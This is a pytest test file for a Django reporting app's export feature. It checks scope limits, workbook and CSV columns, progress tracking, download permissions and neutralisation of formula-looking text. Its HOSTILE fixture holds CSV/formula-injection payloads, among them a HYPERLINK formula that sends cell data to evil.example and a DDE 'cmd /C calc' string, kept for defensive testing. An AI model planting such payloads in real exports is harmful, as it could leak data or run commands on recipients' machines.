"""Exports: the job created with the requester's own scope, run by the task (the immediate backend of the tests),
the workbook and the CSV with their columns, formula-looking text neutralised while numbers stay numbers, the
progress, the download only to the requester, and everyone without the overview refused."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from p2ham.accounts.models import Role
from p2ham.accounts.tests.factories import RoleAssignmentFactory, UserFactory
from p2ham.assessments.models import Assessment
from p2ham.assessments.tests.test_views import english, messages_of
from p2ham.audit.models import AuditEntry
from p2ham.organizations.models import Unit
from p2ham.organizations.tests.factories import UnitFactory
from p2ham.periods.models import Period
from p2ham.reports import exports
from p2ham.reports.models import ExportJob
from p2ham.reports.selectors import Filters
from p2ham.reports.tests.factories import assessment_in, decree, instrument_for, scored

pytestmark = pytest.mark.django_db

S = Assessment.Status
BASE_HEADER = [
    "Unit code",
    "Unit name",
    "Unit type",
    "Ranking cohort",
    "Instrument",
    "Province",
    "Kanwil",
    "Status",
    "Total",
    "Score before adjustments",
    "Bonus",
    "Penalty",
    "Predicate",
    "Rank in cohort",
]
HOSTILE = {
    "LAPAS-AMBON": '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "RUTAN-AMBON": "+62 811 2345 678",
    "LAPAS-MEDAN": "-1",
    "KANWIL-81": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def year(sa_period, declared, tree, ditjen) -> Period:
    """Determined: Lapas Ambon 85 (rank 1, K1.02 at 50, a bonus of 2.5), Lapas Medan 91 (rank 2, K1.02 not
    applicable); Rutan Ambon scored after the decree (62.5); Kanwil Maluku still in verification."""
    determination = decree(sa_period, ditjen)
    scored(
        sa_period,
        tree.lapas_ambon,
        ditjen,
        total="85.00",
        low={"K1.02": "50.00"},
        determination=determination,
        bonus="2.50",
    )
    scored(
        sa_period,
        tree.lapas_medan,
        ditjen,
        total="91.00",
        low={"K1.02": "not_applicable"},
        determination=determination,
        rank=2,
    )
    scored(sa_period, tree.rutan_ambon, ditjen, total="62.50", low={"K1.01": "50.00"})
    assessment_in(sa_period, tree.kanwil_maluku, S.IN_VERIFICATION)
    return sa_period


def hostile_names() -> None:
    for code, name in HOSTILE.items():
        Unit.objects.filter(code=code).update(name=name)


def start(client: Any, user: Any, period: Period, capture: Any, **data: str) -> Any:
    english(client)
    client.force_login(user)
    with capture(execute=True):
        return client.post(reverse("reports:exports", args=[period.year]), {"format": "xlsx", **data})


def download(client: Any, job: ExportJob) -> bytes:
    response = client.get(reverse("reports:export_download", args=[job.pk]))
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content)


def sheet_rows(data: bytes) -> tuple[Any, list[tuple[Any, ...]]]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return sheet, [tuple(row) for row in sheet.iter_rows(values_only=True)]


def indicator_codes(period: Period, unit: Unit) -> list[str]:
    instrument = instrument_for(period, unit)
    return list(instrument.indicators.order_by("criterion__order", "order").values_list("code", flat=True))


# ---------------------------------------------------------------- the workbook


def test_ditjen_exports_the_country_as_a_workbook(client, year, ditjen, tree, django_capture_on_commit_callbacks):
    hostile_names()
    response = start(client, ditjen, year, django_capture_on_commit_callbacks)
    assert response.status_code == 302
    job = ExportJob.objects.get()
    assert job.scope_path == "" and job.status == ExportJob.Status.DONE and job.requested_by == ditjen
    assert job.rows_done == job.rows_total == 4 and job.percent == 100 and job.finished_at and job.started_at
    assert AuditEntry.objects.filter(action="export.request", target_id=str(job.pk)).exists()

    sheet, rows = sheet_rows(download(client, job))
    codes = indicator_codes(year, tree.lapas_ambon)
    header = rows[0]
    assert list(header[: len(BASE_HEADER)]) == BASE_HEADER
    assert list(header[len(BASE_HEADER) : len(BASE_HEADER) + 3]) == ["K1", "K2", "K3"]
    assert list(header[len(BASE_HEADER) + 3 :])[: len(codes)] == codes
    assert sheet.freeze_panes == "C2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}5"
    assert sheet.cell(1, 1).font.bold and not sheet.cell(2, 1).font.bold

    by_code = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert set(by_code) == {"LAPAS-AMBON", "LAPAS-MEDAN", "RUTAN-AMBON", "KANWIL-81"}
    ambon = by_code["LAPAS-AMBON"]
    # Text that a spreadsheet would run is shown as text; numbers stay numbers.
    assert ambon["Unit name"] == "'" + HOSTILE["LAPAS-AMBON"]
    assert by_code["RUTAN-AMBON"]["Unit name"] == "'+62 811 2345 678"
    assert by_code["LAPAS-MEDAN"]["Unit name"] == "'-1"
    assert by_code["KANWIL-81"]["Unit name"] == "'" + HOSTILE["KANWIL-81"]
    assert by_code["LAPAS-AMBON"]["Kanwil"] == "'" + HOSTILE["KANWIL-81"]
    assert ambon["Total"] == 85 and isinstance(ambon["Total"], (int, float))
    assert ambon["Score before adjustments"] == 82.5 and ambon["Bonus"] == 2.5 and ambon["Penalty"] == 0
    assert ambon["Rank in cohort"] == 1 and ambon["Predicate"] == "Yes" and ambon["Status"] == "Determined"
    assert ambon["K1.02"] == 50 and ambon["K1.01"] == 100 and isinstance(ambon["K1"], (int, float))
    assert ambon["Province"] == "Maluku" and ambon["Instrument"] == "pemasyarakatan"
    assert by_code["LAPAS-MEDAN"]["K1.02"] == "n/a"
    rutan = by_code["RUTAN-AMBON"]
    assert rutan["Total"] == 62.5 and rutan["Rank in cohort"] is None and rutan["Predicate"] == "No"
    kanwil_row = by_code["KANWIL-81"]
    assert kanwil_row["Status"] == "In verification" and kanwil_row["Total"] is None


def test_the_kanwils_export_holds_only_its_units(client, year, kanwil, django_capture_on_commit_callbacks):
    # A forged scope in the form is ignored: the scope comes from the Kanwil's own role.
    response = start(client, kanwil, year, django_capture_on_commit_callbacks, scope_path="", scope="national")
    assert response.status_code == 302
    job = ExportJob.objects.get()
    assert job.scope_path == kanwil.role_assignments.get().unit.path
    _sheet, rows = sheet_rows(download(client, job))
    assert {row[0] for row in rows[1:]} == {"LAPAS-AMBON", "RUTAN-AMBON", "KANWIL-81"}


def test_a_kanwil_asking_for_another_province_is_refused(client, year, kanwil, django_capture_on_commit_callbacks):
    response = start(client, kanwil, year, django_capture_on_commit_callbacks, province="12")
    assert response.status_code == 400
    assert "Choose one of the provinces in the list." in response.content.decode()
    assert not ExportJob.objects.exists()


def test_the_scope_holds_even_when_the_filter_names_another_province(year, kanwil, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        job = exports.export_request(actor=kanwil, period=year, fmt="csv", filters=Filters(province="12"))
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE and job.rows_total == 0
    text = default_storage.open(job.storage_name).read().decode("utf-8-sig")
    assert "LAPAS-MEDAN" not in text and len(text.splitlines()) == 1  # the header only


def test_filters_by_province_type_and_cohort(client, year, ditjen, django_capture_on_commit_callbacks):
    start(client, ditjen, year, django_capture_on_commit_callbacks, province="12")
    start(client, ditjen, year, django_capture_on_commit_callbacks, type="rutan")
    start(client, ditjen, year, django_capture_on_commit_callbacks, cohort="kanwil")
    found = [
        {row[0] for row in sheet_rows(download(client, job))[1][1:]} for job in ExportJob.objects.order_by("created_at")
    ]
    assert found == [{"LAPAS-MEDAN"}, {"RUTAN-AMBON"}, {"KANWIL-81"}]


# ---------------------------------------------------------------- the CSV


def test_the_csv_has_the_same_columns_and_is_safe(client, year, ditjen, tree, django_capture_on_commit_callbacks):
    hostile_names()
    start(client, ditjen, year, django_capture_on_commit_callbacks, format="csv")
    job = ExportJob.objects.get()
    data = download(client, job)
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][: len(BASE_HEADER)] == BASE_HEADER
    assert rows[0][len(BASE_HEADER) + 3 :][:3] == indicator_codes(year, tree.lapas_ambon)[:3]
    by_code = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_code["LAPAS-AMBON"]["Unit name"] == "'" + HOSTILE["LAPAS-AMBON"]
    assert by_code["LAPAS-MEDAN"]["Unit name"] == "'-1"
    assert by_code["RUTAN-AMBON"]["Unit name"] == "'+62 811 2345 678"
    assert by_code["LAPAS-AMBON"]["Total"] == "85.00" and by_code["LAPAS-AMBON"]["Bonus"] == "2.50"
    assert by_code["LAPAS-AMBON"]["K1.02"] == "50.00" and by_code["KANWIL-81"]["Total"] == ""
    assert job.file_name.endswith(".csv")
    response = client.get(reverse("reports:export_download", args=[job.pk]))
    assert response["Content-Type"].startswith("text/csv") and "attachment" in response["Content-Disposition"]


def test_the_export_is_written_in_the_requesters_language(client, year, ditjen, django_capture_on_commit_callbacks):
    client.force_login(ditjen)  # no language cookie: Indonesian, the default
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("reports:exports", args=[year.year]), {"format": "csv"})
    job = ExportJob.objects.get()
    assert job.filters["language"] == "id"
    header = default_storage.open(job.storage_name).read().decode("utf-8-sig").splitlines()[0]
    assert header.startswith("Kode unit,")  # the msgid "Unit code", translated


# ---------------------------------------------------------------- progress and failure


def test_the_progress_is_updated_as_rows_are_written(year, ditjen, monkeypatch, django_capture_on_commit_callbacks):
    seen: list[int] = []
    real = exports._progress
    monkeypatch.setattr(exports, "PROGRESS_EVERY", 1)
    monkeypatch.setattr(exports, "_progress", lambda job_id, done: (seen.append(done), real(job_id, done)))
    with django_capture_on_commit_callbacks(execute=True):
        job = exports.export_request(actor=ditjen, period=year, fmt="xlsx", filters=Filters())
    job.refresh_from_db()
    assert seen == [1, 2, 3, 4]
    assert (job.rows_done, job.rows_total, job.percent, job.status) == (4, 4, 100, ExportJob.Status.DONE)


def test_percent_of_a_running_job():
    job = ExportJob(status=ExportJob.Status.RUNNING, rows_done=250, rows_total=1000)
    assert job.percent == 25


def test_a_failed_export_says_so(client, year, ditjen, monkeypatch, django_capture_on_commit_callbacks):
    def broken(job):
        raise RuntimeError("disk full")

    monkeypatch.setattr(exports, "_write", broken)
    start(client, ditjen, year, django_capture_on_commit_callbacks)
    job = ExportJob.objects.get()
    assert job.status == ExportJob.Status.FAILED and job.error == "RuntimeError" and not job.storage_name
    body = client.get(reverse("reports:exports", args=[year.year])).content.decode()
    assert "The export failed." in body and "disk full" not in body
    assert client.get(reverse("reports:export_download", args=[job.pk])).status_code == 404


def test_a_job_runs_once(year, ditjen, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        job = exports.export_request(actor=ditjen, period=year, fmt="csv", filters=Filters())
    assert exports.export_run(str(job.pk)) == 0  # already done: a repeated task does nothing


def test_the_export_reads_a_fixed_number_of_queries(year, ditjen, tree, django_capture_on_commit_callbacks):
    def run() -> int:
        with django_capture_on_commit_callbacks(execute=False):
            job = exports.export_request(actor=ditjen, period=year, fmt="xlsx", filters=Filters())
        with CaptureQueriesContext(connection) as queries:
            exports.export_run(str(job.pk))
        return len(queries)

    small = run()
    for i in range(5):
        unit = UnitFactory(
            code=f"LAPAS-X{i}",
            name=f"Lapas Tambahan {i}",
            unit_type=tree.lapas_ambon.unit_type,
            institution=tree.lapas_ambon.institution,
            province=tree.lapas_ambon.province,
            parent=tree.kanwil_maluku,
        )
        scored(year, unit, ditjen, total="75.00", determination=year.determination, rank=3 + i)
    assert run() == small


# ---------------------------------------------------------------- the page, the polling and the download


def test_the_page_lists_the_users_jobs_and_polls_while_one_runs(client, year, ditjen, kanwil):
    english(client)
    mine = ExportJob.objects.create(period=year, format="xlsx", requested_by=ditjen, rows_total=1000, rows_done=400)
    ExportJob.objects.create(period=year, format="csv", requested_by=kanwil, scope_path="/x/")
    client.force_login(ditjen)
    body = client.get(reverse("reports:exports", args=[year.year])).content.decode()
    assert body.count("<progress") == 1 and 'value="40"' in body and "400 of 1000 rows" in body
    assert 'hx-trigger="every 2s"' in body and reverse("reports:export_jobs", args=[year.year]) in body
    assert "Refresh" in body  # without JavaScript
    partial = client.get(reverse("reports:export_jobs", args=[year.year]), headers={"HX-Request": "true"})
    assert "<html" not in partial.content.decode() and 'hx-trigger="every 2s"' in partial.content.decode()
    ExportJob.objects.filter(pk=mine.pk).update(status=ExportJob.Status.DONE, storage_name="exports/x.xlsx")
    partial = client.get(reverse("reports:export_jobs", args=[year.year])).content.decode()
    assert "hx-trigger" not in partial and reverse("reports:export_download", args=[mine.pk]) in partial


def test_an_empty_list_says_what_to_do(client, year, ditjen):
    english(client)
    client.force_login(ditjen)
    body = client.get(reverse("reports:exports", args=[year.year])).content.decode()
    assert "You have not exported anything for" in body


def test_bad_input_is_refused_with_what_was_typed_kept(client, year, ditjen, django_capture_on_commit_callbacks):
    response = start(client, ditjen, year, django_capture_on_commit_callbacks, format="pdf", province="81")
    body = response.content.decode()
    assert response.status_code == 400 and "Choose Excel or CSV." in body
    assert '<option value="81" selected>' in body
    assert not ExportJob.objects.exists()


def test_the_download_is_the_requesters_only(client, year, ditjen, kanwil, django_capture_on_commit_callbacks):
    start(client, ditjen, year, django_capture_on_commit_callbacks)
    job = ExportJob.objects.get()
    link = reverse("reports:export_download", args=[job.pk])
    other_ditjen = UserFactory(username="ditjen_dua")
    RoleAssignmentFactory(user=other_ditjen, role=Role.DITJEN)
    for someone in (other_ditjen, kanwil):
        client.force_login(someone)
        assert client.get(link).status_code == 404
    client.logout()
    assert client.get(link).status_code == 302  # to the login page
    # The requester who lost the overview role loses the file too.
    ditjen.role_assignments.all().delete()
    client.force_login(ditjen)
    assert client.get(link).status_code == 404


def test_a_job_not_finished_cannot_be_downloaded(client, year, ditjen):
    job = ExportJob.objects.create(period=year, format="xlsx", requested_by=ditjen, status=ExportJob.Status.RUNNING)
    client.force_login(ditjen)
    assert client.get(reverse("reports:export_download", args=[job.pk])).status_code == 404


@pytest.mark.parametrize("who", ["operator", "kepala", "verifier", "penilai", "outsider"])
def test_others_are_refused(client, year, who, request, assessors, django_capture_on_commit_callbacks):
    user = assessors[0] if who == "penilai" else request.getfixturevalue(who)
    client.force_login(user)
    assert client.get(reverse("reports:exports", args=[year.year])).status_code == 403
    assert client.get(reverse("reports:export_jobs", args=[year.year])).status_code == 403
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(reverse("reports:exports", args=[year.year]), {"format": "xlsx"}).status_code == 403
    assert not ExportJob.objects.exists()


def test_the_success_message(client, year, ditjen, django_capture_on_commit_callbacks):
    response = start(client, ditjen, year, django_capture_on_commit_callbacks)
    assert messages_of(response) == ["The export has started. It appears below; download it when it is ready."]


def test_decimal_cells_stay_numbers():
    assert exports._clean(Decimal("85.50")) == Decimal("85.50")
    assert exports._clean("-1") == "'-1" and exports._clean("\tx") == "'\tx" and exports._clean("\rx") == "'\rx"
    assert exports._clean("Lapas\x07 Ambon") == "Lapas Ambon"  # a control character would break the file
